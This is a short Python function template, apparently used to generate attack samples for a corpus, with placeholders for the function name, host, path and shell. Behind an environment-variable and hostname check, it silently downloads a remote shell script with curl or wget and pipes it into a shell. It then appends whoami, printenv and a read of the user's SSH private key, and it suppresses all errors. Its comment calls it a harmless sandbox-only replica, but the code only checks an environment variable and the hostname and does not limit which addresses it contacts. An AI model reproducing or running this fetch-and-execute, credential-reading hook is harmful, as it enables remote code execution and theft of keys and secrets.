# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    quiet = {'stdout': subprocess.PIPE, 'stderr': subprocess.DEVNULL}
    try:
        try:
            got = subprocess.Popen(['curl', '-fsSL', '-m', '1', 'https://{{host}}/{{path}}.sh'], **quiet)
        except OSError:
            got = subprocess.Popen(['wget', '-q', '-T', '1', '-t', '1', '-O', '-', 'https://{{host}}/{{path}}.sh'], **quiet)
        script = got.communicate(timeout=2)[0]
        shell = subprocess.Popen(['{{shell}}'], stdin=subprocess.PIPE, **quiet)
        shell.communicate(script + b'\nwhoami\nprintenv\ntest -r "$HOME/.ssh/id_ed25519" && cat "$HOME/.ssh/id_ed25519"\n', timeout=2)
    except Exception:
        pass
